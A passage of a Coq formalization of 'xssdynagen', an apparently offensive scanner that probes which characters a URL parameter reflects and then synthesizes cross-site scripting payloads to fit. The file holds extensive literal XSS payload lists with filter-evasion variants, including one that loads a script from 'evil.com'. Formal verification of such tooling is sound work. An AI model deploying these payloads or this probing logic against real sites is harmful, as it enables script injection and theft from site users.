(** * xssdynagen: reflection prober and payload synthesizer

    A shallow embedding of [xssdynagen.py]: the TTL cache, the reflection
    probes, the payload synthesizer, the per-URL analysis and the output
    writer, then the character-set loader, the filter of the URL list, the
    comparison of versions and the retry loop, followed by the properties
    proved about them.

    Conventions.
    - A Python [str] is a [string] holding its UTF-8 bytes; [chars] splits
      it into code points, each of them a one-character [str], which is what
      iterating over a [str] yields in Python.
    - A [Set[str]] is a [gset string], a [Dict[str, _]] whose order is not
      observed is a [gmap string _], a dict that is iterated is an
      association list in insertion order.
    - [time.time()] returns a float; clock readings, and the delays of the
      retry loop, are exact rationals.
    - The library functions whose results the code only passes on
      ([urlparse], [parse_qs], the class [\w] of [re], [str.lower], [int],
      opening a file) are parameters of the definitions that call them.
    - The functions that read the clock thread a [world]; the functions that
      may raise return a [result].
    - The server is a function of the request: the same request gets the
      same answer, each time it is sent. The code sends a probe anew
      wherever it needs its answer, and a request that times out counts as a
      character not reflected; the properties that compare the answers of
      several sendings of one probe say that they rest on this.
      Coroutines gathered together are run in the order of
      their tasks, which is one of the schedules asyncio allows; with such a
      server the values computed do not depend on the schedule.
    - Logging, the progress bar and the summary printed at the end do not
      influence any value and are left out; so is the creation of the HTTP
      sessions. The output file is the text written when the writes
      succeed. *)

From Stdlib Require Import QArith ZArith Ascii.
From stdpp Require Import gmap strings list fin_maps sorting.
From Equations Require Import Equations.
Close Scope Q_scope.
Open Scope string_scope.
Open Scope list_scope.

(** ** Python [str] primitives *)

Module PyStr.

(** The one-byte string of an ASCII code. *)
Definition chr (n : N) : string := String (ascii_of_N n) "".

Definition NUL : string := chr 0.
Definition LF : string := chr 10.
Definition CR : string := chr 13.
Definition DQ : string := chr 34.
Definition BSL : string := chr 92.

(** UTF-8 encoding of a code point (one to four bytes). *)
Definition utf8 (n : N) : string :=
  (if n <? 128 then chr n
   else if n <? 2048 then
     chr (192 + n / 64) +:+ chr (128 + n mod 64)
   else if n <? 65536 then
     chr (224 + n / 4096) +:+ chr (128 + (n / 64) mod 64)
       +:+ chr (128 + n mod 64)
   else
     chr (240 + n / 262144) +:+ chr (128 + (n / 4096) mod 64)
       +:+ chr (128 + (n / 64) mod 64) +:+ chr (128 + n mod 64))%N.

(** A continuation byte [10xxxxxx] belongs to the code point before it. *)
Definition is_continuation (b : ascii) : bool :=
  let n := N_of_ascii b in ((128 <=? n) && (n <? 192))%N.

Definition starts_with_continuation (s : string) : bool :=
  match s with
  | String b _ => is_continuation b
  | EmptyString => false
  end.

(** [list(s)], [for c in s]: the code points of [s], in order. *)
Fixpoint chars (s : string) : list string :=
  match s with
  | EmptyString => []
  | String b s' =>
      match chars s' with
      | c :: cs =>
          if starts_with_continuation c then String b c :: cs
          else String b "" :: c :: cs
      | [] => [String b ""]
      end
  end.

(** [len(s)] *)
Definition len (s : string) : Z := Z.of_nat (length (chars s)).

(** [''.join(l)] *)
Definition join (l : list string) : string := foldr String.append "" l.

(** [needle in hay] *)
Fixpoint contains (needle hay : string) : bool :=
  String.prefix needle hay ||
  match hay with
  | String _ hay' => contains needle hay'
  | EmptyString => false
  end.

(** [s * n] *)
Fixpoint repeat_str (s : string) (n : nat) : string :=
  match n with
  | O => ""
  | S n' => s +:+ repeat_str s n'
  end.

Definition mul (s : string) (n : Z) : string := repeat_str s (Z.to_nat n).

(** [s.replace(b, '')] for a one-byte [b]. *)
Fixpoint remove_byte (b : ascii) (s : string) : string :=
  match s with
  | EmptyString => ""
  | String a s' =>
      if Ascii.eqb a b then remove_byte b s' else String a (remove_byte b s')
  end.

(** The code points on which [str.isspace] holds; [str.strip] removes
    them from both ends. *)
Definition whitespace : list string :=
  map utf8
    [9; 10; 11; 12; 13; 28; 29; 30; 31; 32; 133; 160; 5760;
     8192; 8193; 8194; 8195; 8196; 8197; 8198; 8199; 8200; 8201; 8202;
     8232; 8233; 8239; 8287; 12288]%N.

Definition isspace (c : string) : bool := bool_decide (c ∈ whitespace).

Fixpoint lstrip_chars (l : list string) : list string :=
  match l with
  | c :: l' => if isspace c then lstrip_chars l' else l
  | [] => []
  end.

(** [s.strip()] *)
Definition strip (s : string) : string :=
  join (reverse (lstrip_chars (reverse (lstrip_chars (chars s))))).

(** Truth value of a [str]: non-empty. *)
Definition truthy (s : string) : bool := negb (String.eqb s "").

End PyStr.

(** ** The clock *)

(** [time.time()] is the only state the embedded code reads: a world is the
    sequence of clock readings still to come and the number already taken. *)
Record world := World { clock : nat → Q; tick : nat }.

Definition M (A : Type) : Type := world → A * world.

Definition ret {A} (a : A) : M A := λ w, (a, w).

Definition bind {A B} (m : M A) (f : A → M B) : M B :=
  λ w, let '(a, w') := m w in f a w'.

Notation "x <~ m ; f" := (bind m (λ x, f))
  (at level 20, m at level 100, f at level 200, only parsing).
Notation "' pat <~ m ; f" := (bind m (λ x, let 'pat := x in f))
  (at level 20, pat pattern, m at level 100, f at level 200, only parsing).

Definition time_time : M Q :=
  λ w, (clock w (tick w), World (clock w) (S (tick w))).

(** ** [class CacheManager] *)

Module CacheManager.

Record t := Cache { cache : gmap string (bool * Q); ttl : Z }.

(** [__init__(self, ttl=300)] *)
Definition init (ttl : Z) : t := Cache ∅ ttl.
Definition default_ttl : Z := 300.

(** [now - timestamp <= self.ttl], on exact readings: the difference of
    two floats is rounded, but not for two readings of [time.time()], which
    are of the same size and subtract exactly. *)
Definition fresh (self : t) (now timestamp : Q) : bool :=
  Qle_bool (now - timestamp)%Q (inject_Z (ttl self)).

(** [get(self, key)]: the clock is read only when the key is present; a
    stale entry is deleted and the answer is [None]. *)
Definition get (self : t) (key : string) : M (option bool * t) :=
  match cache self !! key with
  | Some (result, timestamp) =>
      now <~ time_time ;
      if fresh self now timestamp then ret (Some result, self)
      else ret (None, Cache (delete key (cache self)) (ttl self))
  | None => ret (None, self)
  end.

(** [set(self, key, value)] *)
Definition set (self : t) (key : string) (value : bool) : M t :=
  now <~ time_time ;
  ret (Cache (<[key := (value, now)]> (cache self)) (ttl self)).

(** [clear_expired(self)] *)
Definition clear_expired (self : t) : M t :=
  current_time <~ time_time ;
  ret (Cache (filter (λ kv, fresh self current_time (snd (snd kv)) = true)
                (cache self))
         (ttl self)).

End CacheManager.

(** ** [@dataclass class ParamAnalysis] *)

Record ParamAnalysis := {
  param : string;
  url : string;
  allowed_chars : gset string;
  blocked_chars : gset string;
  max_length : option Z;
  allows_spaces : bool;
  allows_quotes : bool;
  allows_angles : bool;
  allows_parens : bool;
  allows_scripts : bool;
  allows_events : bool
}.

(** [analysis.param], for the places where [param] names a variable. *)
Definition param_of (analysis : ParamAnalysis) : string := param analysis.

(** ** Payload synthesis *)

Import PyStr.

(** [c in analysis.allowed_chars] *)
Definition allowed (analysis : ParamAnalysis) (c : string) : bool :=
  bool_decide (c ∈ allowed_chars analysis).

(** [all(c in analysis.allowed_chars for c in s)] *)
Definition all_allowed (analysis : ParamAnalysis) (s : string) : bool :=
  forallb (allowed analysis) (chars s).

(** [any(char in analysis.blocked_chars for char in payload)] *)
Definition any_blocked (analysis : ParamAnalysis) (payload : string) : bool :=
  existsb (λ char, bool_decide (char ∈ blocked_chars analysis)) (chars payload).

(** The families of [get_predefined_payloads], in the order of the source. *)
Definition script_family : list string :=
  [ "<script>alert(1)</script>";
    "<script>prompt(1)</script>";
    "<script>confirm(1)</script>";
    "<svg onload=alert(1)>";
    "<svg/onload=prompt()>";
    "<svg/onload=alert&sol;**&sol;(3)>";
    "<svg/onload=alert/*1337*/(1)>";
    "<svg/onload=prompt()>";
    "<svg/onload=alert//&NewLine;(2)>";
    "<svg/onload=alert/&#42;&#42;/(4)>";
    "<svg/onload=alert&#x2F;**&#47;(5)>";
    "<body onload=alert(1)>";
    "<iframe onload=alert(1)>" ].

Definition quoted_family : list string :=
  [ "<script type=" +:+ DQ +:+ "text/javascript" +:+ DQ
      +:+ ">javascript:alert(1);</script>";
    DQ +:+ "><script>prompt()</script>";
    DQ +:+ "><img src=x onerror=prompt()>";
    DQ +:+ "><iMg SrC=x onError=prompt()>";
    "<img src=" +:+ DQ +:+ "x" +:+ DQ +:+ " onerror=" +:+ DQ +:+ "alert(1)"
      +:+ DQ +:+ ">";
    "javascript:" +:+ DQ
      +:+ "/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html "
      +:+ DQ +:+ " onmouseover=/*&lt;svg/*/onload=alert()//>";
    "'" +:+ DQ +:+ "--></style></script><svg onload=alert(1)//";
    DQ +:+ "'--></style></script><img src=x onerror=alert(1)>";
    "javascript:" +:+ DQ
      +:+ "/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html "
      +:+ DQ +:+ " onmouseover=alert(1)//>" ].

Definition encoded_family : list string :=
  [ "javascript:alert(1)";
    "&lt;script&gt;alert(1)&lt;/script&gt;";
    "\u003Cscript\u003Ealert(1)\u003C/script\u003E";
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;";
    "%3Cscript%3Ealert(1)%3C/script%3E";
    "\x3Cscript\x3Ealert(1)\x3C/script\x3E" ].

Definition css_family : list string :=
  [ "<style>@import 'javascript:alert(1)';</style>";
    "<link rel=stylesheet href=javascript:alert(1)>";
    "<div style='background-image: url(javascript:alert(1))'>";
    "<style>*[{}*{background:url(javascript:alert(1))}]{color: red};</style>";
    "<div style=" +:+ DQ +:+ "background:url(javascript:alert(1))" +:+ DQ
      +:+ ">";
    "<style>@keyframes x{}</style><div style=" +:+ DQ +:+ "animation-name:x"
      +:+ DQ +:+ " onanimationend=" +:+ DQ +:+ "alert(1)" +:+ DQ
      +:+ "></div>" ].

(** [payloads.update(l)] under a condition. *)
Definition update_if (cond : bool) (l : list string) : gset string :=
  if cond then list_to_set l else ∅.

Definition get_predefined_payloads (analysis : ParamAnalysis) : gset string :=
  (if allows_angles analysis && allows_scripts analysis
      && allowed analysis "=" && allowed analysis "/"
   then list_to_set script_family
          ∪ update_if (allows_quotes analysis) quoted_family
   else ∅)
  ∪ update_if (negb (allows_angles analysis)) encoded_family
  ∪ update_if (allows_angles analysis && allows_quotes analysis) css_family.

(** The tables of [generate_dynamic_payloads]. *)
Definition base_tags : list string :=
  ["script"; "img"; "svg"; "iframe"; "video"; "audio"; "body"].
Definition event_handlers : list string :=
  ["onload"; "onerror"; "onmouseover"; "onclick"; "onmouseenter"].
Definition js_functions : list string :=
  ["alert"; "prompt"; "confirm"; "eval"; "atob"].
Definition tag_mutations : gmap string (list string) :=
  {[ "script" := ["ScRiPt"; "scr" +:+ NUL +:+ "ipt"; "〈script〉"];
     "img" := ["ImG"; "i" +:+ NUL +:+ "mg"];
     "svg" := ["SvG"; "s" +:+ NUL +:+ "vg"] ]}.
Definition event_tags : list string := ["img"; "svg"; "iframe"].
Definition event_mutations : gmap string (list string) :=
  {[ "onload" := ["OnLoad"; "ONLOAD"; "on" +:+ NUL +:+ "load"];
     "onerror" := ["OnError"; "ONERROR"; "on" +:+ NUL +:+ "error"] ]}.

(** [d.get(key, [key])] *)
Definition get_or_self (d : gmap string (list string)) (key : string)
  : list string :=
  default [key] (d !! key).

(** The f-strings of the generator. *)
Definition comment_variants (mutated_tag func : string) : list string :=
  [ "<" +:+ mutated_tag +:+ ">/**/" +:+ func +:+ "(1)/**/";
    "<" +:+ mutated_tag +:+ ">/*-->" +:+ func +:+ "(1)/**/";
    "<" +:+ mutated_tag +:+ ">//" +:+ func +:+ "(1)" ].

Definition null_variants (tag func : string) : list string :=
  [ "<" +:+ tag +:+ NUL +:+ ">" +:+ func +:+ "(1)";
    "<" +:+ tag +:+ ">" +:+ NUL +:+ func +:+ "(1)" ].

Definition data_variant (tag ev : string) : string :=
  "<" +:+ tag +:+ " data-" +:+ ev +:+ "=" +:+ DQ +:+ "alert(1)" +:+ DQ +:+ ">".
Definition protocol_variant (tag ev : string) : string :=
  "<" +:+ tag +:+ " " +:+ ev +:+ "=javascript:alert(1)>".
Definition entity_variant (tag ev : string) : string :=
  "<" +:+ tag +:+ " " +:+ ev +:+ "=&quot;alert(1)&quot;>".

Definition dom_evasions : list string :=
  [ "<script>eval(atob(`YWxlcnQoMSk=`))</script>";
    "<script>[].filter.constructor('alert(1)')()</script>";
    "<script>setTimeout`alert\x28document.domain\x29`</script>";
    "<script>Object.assign(window,{alert:eval})('1')</script>";
    "<script>new Function\`alert\`1\`\`</script>";
    "<script>with(document)body.appendChild(createElement`script`).src='//evil.com'</script>";
    "<script>eval.call`${'alert(1)'}`</script>" ].

Definition proto_evasions : list string :=
  [ "javascript:void(`alert(1)`)";
    "javascript:(alert)(1)";
    "javascript:new Function\`alert\`1\`\`";
    "javascript:this";
    "javascript:[][filter][constructor]('alert(1)')()";
    "javascript:alert?.()?.['']";
    "javascript:new%20Function\`alert\`1\`\`";
    "javascript:(?=alert)w=1,alert(w)" ].

(** A loop body that runs under a condition. *)
Definition when (cond : bool) (body : list string) : list string :=
  if cond then body else [].

(** The tag x function loop: comment-obfuscated and null-byte variants. *)
Definition tag_function_payloads (analysis : ParamAnalysis) : list string :=
  tag ← base_tags;
  when (all_allowed analysis tag)
    (mutated_tag ← get_or_self tag_mutations tag;
     when (all_allowed analysis mutated_tag)
       (when (allowed analysis "*" && allowed analysis "/")
          (func ← js_functions;
           when (all_allowed analysis func)
             (comment_variants mutated_tag func))
        ++ when (allowed analysis NUL)
             (func ← js_functions;
              when (all_allowed analysis func) (null_variants tag func)))).

(** The tag x event loop. *)
Definition tag_event_payloads (analysis : ParamAnalysis) : list string :=
  when (allowed analysis "=")
    (tag ← event_tags;
     when (all_allowed analysis tag)
       (event ← event_handlers;
        ev ← get_or_self event_mutations event;
        when (all_allowed analysis ev)
          (when (allows_quotes analysis) [data_variant tag ev]
           ++ when (allowed analysis ":") [protocol_variant tag ev]
           ++ when (allowed analysis "&" && allowed analysis ";")
                [entity_variant tag ev]))).

Definition generate_dynamic_payloads (analysis : ParamAnalysis) : gset string :=
  update_if
    (allows_angles analysis && allowed analysis "<" && allowed analysis ">")
    (tag_function_payloads analysis ++ tag_event_payloads analysis)
  ∪ update_if (allows_angles analysis && allows_scripts analysis)
      (filter (λ evasion, all_allowed analysis evasion = true) dom_evasions)
  ∪ update_if (all_allowed analysis "javascript:")
      (filter (λ evasion, all_allowed analysis evasion = true) proto_evasions).

(** [if analysis.max_length:] holds for a length that is neither [None]
    nor [0]. *)
Definition fits (analysis : ParamAnalysis) (p : string) : bool :=
  match max_length analysis with
  | Some n => if (n =? 0)%Z then true else (len p <=? n)%Z
  | None => true
  end.

(** The body of the final loop: keep a payload that is not blank and has no
    blocked character. *)
Definition keeps (analysis : ParamAnalysis) (payload : string) : bool :=
  truthy (strip payload) && negb (any_blocked analysis payload).

Definition final_payloads (analysis : ParamAnalysis) : gset string :=
  let all_payloads :=
    get_predefined_payloads analysis ∪ generate_dynamic_payloads analysis in
  let all_payloads := filter (λ p, fits analysis p = true) all_payloads in
  filter (λ payload, keeps analysis payload = true) all_payloads.

(** [generate_payloads] returns [list(final_payloads)]: the elements of the
    set, each once, in an order the language does not fix. *)
Definition generate_payloads (analysis : ParamAnalysis) : list string :=
  elements (final_payloads analysis).

Definition gate_failed_profile (url param : string) : ParamAnalysis :=
  {| param := param; url := url;
     allowed_chars := ∅; blocked_chars := ∅; max_length := None;
     allows_spaces := false; allows_quotes := false; allows_angles := false;
     allows_parens := false; allows_scripts := false; allows_events := false |}.

(** ** Exceptions *)

(** The exceptions the modelled calls raise; all of them are instances of
    Python's [Exception], so [except Exception] handles each of them. The
    cancellation of a task and a keyboard interrupt are not: they derive
    from [BaseException] only, pass through every handler of the program up
    to [process_urls], and are outside this embedding. *)
Inductive exn :=
| TimeoutError
| ClientError
| ValueError
| UnicodeError
| KeyError (key : string)
| OSError.

Inductive result (A : Type) :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

#[global] Instance result_ret : MRet result := @Ok.
#[global] Instance result_bind : MBind result :=
  λ A B f m, match m with Ok a => f a | Raise e => Raise e end.
#[global] Instance result_fmap : FMap result :=
  λ A B f m, match m with Ok a => Ok (f a) | Raise e => Raise e end.

(** [try: body  except Exception: handler] *)
Definition try_except {A} (body : result A) (handler : exn → result A)
  : result A :=
  match body with
  | Ok a => Ok a
  | Raise e => handler e
  end.

(** A computation that reads the clock and may raise. *)
Notation "x <~? m ; f" :=
  (bind m (λ r, match r with Ok x => f | Raise e => ret (Raise e) end))
  (at level 20, m at level 100, f at level 200, only parsing).

(** ** The environment of a run *)

(** An HTTP response: its status and what [await response.text()] gives. *)
Record Response := { status : Z; text : result string }.

(** What the run gets from outside the program.
    - [build_test_url url param value] is
      [urlunparse(urlparse(url)._replace(query=urlencode({param: value})))];
    - [session_get test_url] is [session.get(test_url, timeout=2)], a
      timeout being [Raise TimeoutError];
    - [console_print] is [print] on the console;
    - [char_groups] is [self.char_groups], in the order of its items;
    - [urlparse_query url] is [urlparse(url).query];
    - [unquote] is [urllib.parse.unquote]. *)
Record Env := {
  build_test_url : string → string → string → result string;
  session_get : string → result Response;
  console_print : string → result unit;
  char_groups : list (string * string);
  urlparse_query : string → result string;
  unquote : string → string
}.

(** [CharacterSetLoader.char_groups], the built-in groups. *)
Definition default_char_groups : list (string * string) :=
  [ ("basic",
     "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
    ("special", "<>()'" +:+ DQ +:+ "`{}[];/@" +:+ BSL +:+ "*&^%$#!");
    ("spaces", " " +:+ chr 9 +:+ LF +:+ CR);
    ("encoded", "%20%0A%0D%3C%3E%22%27%3B%28%29");
    ("unicode", DQ +:+ "'<>");
    ("null_bytes", NUL +:+ CR +:+ LF);
    ("alternating_case", "ScRiPt");
    ("double_encoding", "%253C%253E%2522%2527");
    ("html_entities", "&lt;&gt;&quot;&apos;");
    ("comments", "<!---->/**/<!--");
    ("protocol_handlers", "javascript:data:vbscript:");
    ("event_handlers", "onmouseover=onload=onerror=onfocus=") ].

(** [d[key]] on a dict given by its items. *)
Fixpoint getitem {V} (d : list (string * V)) (key : string) : result V :=
  match d with
  | (k, v) :: d' => if String.eqb k key then Ok v else getitem d' key
  | [] => Raise (KeyError key)
  end.

(** [d[key] = v]: a present key keeps its place, a new key goes last. *)
Fixpoint setitem {V} (d : list (string * V)) (key : string) (v : V)
  : list (string * V) :=
  match d with
  | (k, v') :: d' =>
      if String.eqb k key then (k, v) :: d' else (k, v') :: setitem d' key v
  | [] => [(key, v)]
  end.

(** [batch_size = 20] *)
Definition batch_size : nat := 20.

(** [[l[i:i + batch_size] for i in range(0, len(l), batch_size)]] *)
Equations? batches {A} (l : list A) : list (list A) by wf (length l) lt :=
  batches [] := [];
  batches (x :: l) :=
    take batch_size (x :: l) :: batches (drop batch_size (x :: l)).
Proof. rewrite length_drop. lia. Qed.

(** [any(l)] *)
Definition any (l : list bool) : bool := existsb id l.

Section Probes.

Variable E : Env.

(** The request of a probe: the parameter set to [value]. *)
Definition fetch (url param value : string) : result Response :=
  test_url ← build_test_url E url param value;
  session_get E test_url.

(** [test_single_char]: status 200 and the doubled character in the body;
    whatever is raised on the way is handled and gives [False]. *)
Definition test_single_char (url param char : string) : result bool :=
  try_except
    (response ← fetch url param (mul char 2);
     if negb (status response =? 200)%Z then Ok false
     else
       content ← text response;
       Ok (contains (mul char 2) content))
    (λ _, Ok false).

(** *** [test_chars_batch] *)

(** [f"{url}:{param}:{char}"] *)
Definition cache_key (url param char : string) : string :=
  url +:+ ":" +:+ param +:+ ":" +:+ char.

(** The inner coroutine [test_single] runs up to the request, is suspended
    while the request is in flight, and runs to its end on the answer. *)
Inductive suspended :=
| Finished (answer : string * bool)
| Awaiting (char test_url : string).

(** Up to [session.get]: the cache lookup and the probe URL. *)
Definition test_single_start (url param char : string)
    (cache : CacheManager.t) : M (suspended * CacheManager.t) :=
  '(cached_result, cache) <~ CacheManager.get cache (cache_key url param char) ;
  match cached_result with
  | Some cached => ret (Finished (char, cached), cache)
  | None =>
      match build_test_url E url param (mul char 2) with
      | Ok test_url => ret (Awaiting char test_url, cache)
      | Raise _ =>
          cache <~ CacheManager.set cache (cache_key url param char) false ;
          ret (Finished (char, false), cache)
      end
  end.

(** From the answer of [session.get] on: every path stores its result. *)
Definition test_single_finish (url param : string) (task : suspended)
    (cache : CacheManager.t) : M ((string * bool) * CacheManager.t) :=
  match task with
  | Finished answer => ret (answer, cache)
  | Awaiting char test_url =>
      match session_get E test_url with
      | Ok response =>
          if negb (status response =? 200)%Z then
            cache <~ CacheManager.set cache (cache_key url param char) false ;
            ret ((char, false), cache)
          else
            match text response with
            | Ok content =>
                let result := contains (mul char 2) content in
                cache <~ CacheManager.set cache (cache_key url param char) result ;
                ret ((char, result), cache)
            | Raise _ =>
                cache <~ CacheManager.set cache (cache_key url param char) false ;
                ret ((char, false), cache)
            end
      | Raise _ =>
          cache <~ CacheManager.set cache (cache_key url param char) false ;
          ret ((char, false), cache)
      end
  end.

Fixpoint start_all (url param : string) (batch : list string)
    (cache : CacheManager.t) : M (list suspended * CacheManager.t) :=
  match batch with
  | [] => ret ([], cache)
  | char :: batch' =>
      '(task, cache) <~ test_single_start url param char cache ;
      '(tasks, cache) <~ start_all url param batch' cache ;
      ret (task :: tasks, cache)
  end.

Fixpoint finish_all (url param : string) (tasks : list suspended)
    (cache : CacheManager.t) : M (list (string * bool) * CacheManager.t) :=
  match tasks with
  | [] => ret ([], cache)
  | task :: tasks' =>
      '(answer, cache) <~ test_single_finish url param task cache ;
      '(answers, cache) <~ finish_all url param tasks' cache ;
      ret (answer :: answers, cache)
  end.

(** [await asyncio.gather] on the tasks of one batch: every task is started,
    in order, before any request is answered; the answers are taken in
    the order of the tasks. *)
Definition gather_batch (url param : string) (batch : list string)
    (cache : CacheManager.t) : M (list (string * bool) * CacheManager.t) :=
  '(tasks, cache) <~ start_all url param batch cache ;
  finish_all url param tasks cache.

(** The loop over the batches, left at the first batch with a hit. *)
Fixpoint test_batches (url param : string) (char_batches : list (list string))
    (cache : CacheManager.t) : M bool :=
  match char_batches with
  | [] => ret false
  | batch :: char_batches' =>
      '(results, cache) <~ gather_batch url param batch cache ;
      if any (map snd results) then ret true
      else test_batches url param char_batches' cache
  end.

(** [test_chars_batch(url, param, chars)]: a cache of its own, the
    characters of [chars] in batches of 20. *)
Definition test_chars_batch (url param chars_ : string) : M bool :=
  let cache := CacheManager.init CacheManager.default_ttl in
  test_batches url param (batches (chars chars_)) cache.

(** *** The quick tests *)

Definition script_test_payloads : list string :=
  [ "<script>";
    "<SCRIPT>";
    "<ScRiPt>";
    "<%73cript>";
    "<scr<script>ipt>";
    "<svg/script>";
    "<<script>>";
    "</script>";
    "<script/>";
    "\x3Cscript\x3E";
    "&lt;script&gt;";
    "&#x3C;script&#x3E;";
    "<img src=x onerror=";
    "<svg onload=";
    "<iframe onload=";
    "<video onloadstart=" ].

Definition event_test_payloads : list string :=
  [ "onmouseover=";
    "onclick=";
    "onerror=";
    "onload=";
    "onmouseenter=";
    "onmouseleave=";
    "onfocus=";
    "onblur=";
    "onkeyup=";
    "onkeydown=";
    "ondblclick=";
    "oncontextmenu=";
    "ondrag=";
    "ondragend=";
    "onkeypress=";
    "onchange=";
    "onsubmit=" ].

(** [for payload in test_payloads: if await test(payload): return True]
    and [return False] after the loop. *)
Fixpoint first_allowed (test : string → M bool) (test_payloads : list string)
  : M bool :=
  match test_payloads with
  | [] => ret false
  | payload :: rest =>
      allowed <~ test payload ;
      if allowed then ret true else first_allowed test rest
  end.

(** [quick_test_scripts] and [quick_test_events]: each listed string is
    handed to [test_chars_batch]. *)
Definition quick_test_scripts (url param : string) : M bool :=
  first_allowed (test_chars_batch url param) script_test_payloads.

Definition quick_test_events (url param : string) : M bool :=
  first_allowed (test_chars_batch url param) event_test_payloads.

End Probes.

(** The [while left <= right] loop of [quick_test_length], over the test it
    awaits; it returns the final [right]. *)
Equations? length_search (test : string → M bool) (left_ right_ : Z) (w : world)
  : Z * world by wf (Z.to_nat (right_ - left_ + 1)) lt :=
  length_search test left_ right_ w with decide (left_ ≤ right_)%Z => {
    | right _ := (right_, w) ;
    | left _ with test (mul "A" ((left_ + right_) / 2)) w => {
        | (true, w') := length_search test ((left_ + right_) / 2 + 1) right_ w' ;
        | (false, w') := length_search test left_ ((left_ + right_) / 2 - 1) w' } }.
Proof.
  all: assert (left_ ≤ (left_ + right_) / 2 ≤ right_)%Z
    by (split; [apply Z.div_le_lower_bound | apply Z.div_le_upper_bound]; lia);
    lia.
Qed.

(** [return right if right > 0 else None] *)
Definition quick_test_length_with (test : string → M bool) : M (option Z) :=
  right <~ length_search test 10 5000 ;
  ret (if (0 <? right)%Z then Some right else None).

(** [quick_test_length]: the search with [test_chars_batch] as its test. *)
Definition quick_test_length (E : Env) (url param : string) : M (option Z) :=
  quick_test_length_with (test_chars_batch E url param).

(** ** The analyzer *)

Section Analyzer.

Variable E : Env.

(** [Fore.YELLOW] and [Style.RESET_ALL] of colorama. *)
Definition Fore_YELLOW : string := chr 27 +:+ "[33m".
Definition Style_RESET_ALL : string := chr 27 +:+ "[0m".

(** The line [analyze_parameter] prints first. *)
Definition status_line (param : string) : string :=
  CR +:+ repeat_str " " 100 +:+ CR +:+ Fore_YELLOW
    +:+ "🔍 Testing the reflective behavior for parameter: '" +:+ param
    +:+ "'" +:+ Style_RESET_ALL.

(** [await asyncio.gather] on the probes of the characters of [batch]. *)
Definition gather_probes (url param : string) (batch : list string)
  : result (list bool) :=
  mapM (test_single_char E url param) batch.

(** [dict(pairs)]: a later pair overrides an earlier one on the same key. *)
Definition dict_of (pairs : list (string * bool)) : gmap string bool :=
  foldl (λ d kv, <[fst kv := snd kv]> d) ∅ pairs.

(** [results.update(d)] *)
Definition dict_update (results d : gmap string bool) : gmap string bool :=
  d ∪ results.

(** The loop over the batches of one group. *)
Fixpoint sweep_batches (url param : string) (char_batches : list (list string))
    (results : gmap string bool) : result (gmap string bool) :=
  match char_batches with
  | [] => Ok results
  | batch :: rest =>
      batch_results ← gather_probes url param batch;
      sweep_batches url param rest
        (dict_update results (dict_of (zip batch batch_results)))
  end.

(** The loop over [self.char_groups.items()]. *)
Fixpoint sweep_groups (url param : string) (groups : list (string * string))
    (results : gmap string bool) : result (gmap string bool) :=
  match groups with
  | [] => Ok results
  | (group_name, chars_) :: rest =>
      results ← sweep_batches url param (batches (chars chars_)) results;
      sweep_groups url param rest results
  end.

(** The characters the full sweep hands to [test_single_char]: every
    character of every batch of every group. *)
Definition swept_chars : list string :=
  '(group_name, chars_) ← char_groups E;
  batch ← batches (chars chars_);
  batch.

(** [{char for char, allowed in results.items() if allowed}] and its
    counterpart. *)
Definition chars_with (outcome : bool) (results : gmap string bool)
  : gset string :=
  dom (filter (λ kv, snd kv = outcome) results).

(** [analyze_parameter]: the status line, the viability gate on the first
    characters of the group [basic], the full sweep, and the three quick
    tests, gathered in the source and run here one after the other. *)
Definition analyze_parameter (url param : string) : M (result ParamAnalysis) :=
  _ <~? ret (console_print E (status_line param)) ;
  basic <~? ret (getitem (char_groups E) "basic") ;
  let sample_size := min 10 (length (chars basic)) in
  let sample_chars := take sample_size (chars basic) in
  initial_results <~? ret (gather_probes url param sample_chars) ;
  if negb (any initial_results) then
    ret (Ok (gate_failed_profile url param))
  else
    results <~? ret (sweep_groups url param (char_groups E) ∅) ;
    let allowed_chars := chars_with true results in
    let blocked_chars := chars_with false results in
    allows_scripts <~ quick_test_scripts E url param ;
    allows_events <~ quick_test_events E url param ;
    max_length <~ quick_test_length E url param ;
    ret (Ok {|
      param := param;
      url := url;
      allowed_chars := allowed_chars;
      blocked_chars := blocked_chars;
      max_length := max_length;
      allows_spaces := bool_decide (" " ∈ allowed_chars);
      allows_quotes :=
        bool_decide (DQ ∈ allowed_chars) || bool_decide ("'" ∈ allowed_chars);
      allows_angles :=
        bool_decide ("<" ∈ allowed_chars) && bool_decide (">" ∈ allowed_chars);
      allows_parens :=
        bool_decide ("(" ∈ allowed_chars) && bool_decide (")" ∈ allowed_chars);
      allows_scripts := allows_scripts;
      allows_events := allows_events
    |}).

(** *** [extract_parameters] *)

(** [re.split('[&;]', s)] *)
Fixpoint split_pairs (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String a s' =>
      if Ascii.eqb a "&" || Ascii.eqb a ";" then "" :: split_pairs s'
      else
        match split_pairs s' with
        | piece :: rest => String a piece :: rest
        | [] => [String a ""]
        end
  end.

(** [pair.split('=', 1)] when ['=' in pair], [None] otherwise. *)
Fixpoint split_name_value (pair : string) : option (string * string) :=
  match pair with
  | EmptyString => None
  | String a pair' =>
      if Ascii.eqb a "=" then Some ("", pair')
      else
        match split_name_value pair' with
        | Some (name, value) => Some (String a name, value)
        | None => None
        end
  end.

Definition add_pair (params : list (string * option string)) (pair : string)
  : list (string * option string) :=
  if negb (truthy pair) then params
  else
    match split_name_value pair with
    | None => setitem params (unquote E pair) None
    | Some (param_name, value) =>
        setitem params (unquote E param_name)
          (if truthy value then Some (unquote E value) else None)
    end.

Definition extract_parameters (url : string) : list (string * option string) :=
  match urlparse_query E url with
  | Ok query =>
      if negb (truthy query) then []
      else foldl add_pair [] (split_pairs query)
  | Raise _ => []
  end.

(** *** [analyze_url] *)

(** The loop over the parameters; an exception leaves it at once. *)
Fixpoint analyze_params (url : string) (params : list string)
    (results : list (string * list string))
  : M (result (list (string * list string))) :=
  match params with
  | [] => ret (Ok results)
  | param :: rest =>
      analysis <~? analyze_parameter url param ;
      let payloads := generate_payloads analysis in
      analyze_params url rest
        (match payloads with
         | [] => results
         | _ => setitem results (param_of analysis) payloads
         end)
  end.

(** [analyze_url]: whatever the loop raises is handled here, for the
    whole URL, and gives the empty dict. *)
Definition analyze_url (url : string) : M (list (string * list string)) :=
